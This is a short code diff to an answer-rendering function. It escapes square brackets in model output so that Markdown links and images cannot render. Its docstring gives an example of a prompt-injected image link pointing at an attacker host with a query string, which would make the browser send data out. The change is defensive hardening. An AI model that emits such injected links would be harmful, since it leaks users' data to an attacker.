@@ -24,9 +24,17 @@ def sources_markdown(sources: list[Passage], cited: list[int]) -> str:
     return "\n".join(lines)
 
 
+_BRACKETS = str.maketrans({"[": "\\[", "]": "\\]"})
+
+
 def escape_answer(text: str) -> str:
-    """Model output shown as text: HTML in it must never become markup."""
-    return html.escape(text, quote=False)
+    """Model output shown as text: HTML in it must never become markup.
+
+    Square brackets are escaped too, so no Markdown link or image survives: a prompt-injected
+    ``![](https://attacker/?q=...)`` would otherwise make the browser fetch the address.
+    Citation markers still read ``[1]``; lists and emphasis still render.
+    """
+    return html.escape(text, quote=False).translate(_BRACKETS)
 
 
 _MARKDOWN = str.maketrans({c: f"\\{c}" for c in "\\`*_{}[]()#+-.!|~<>"})
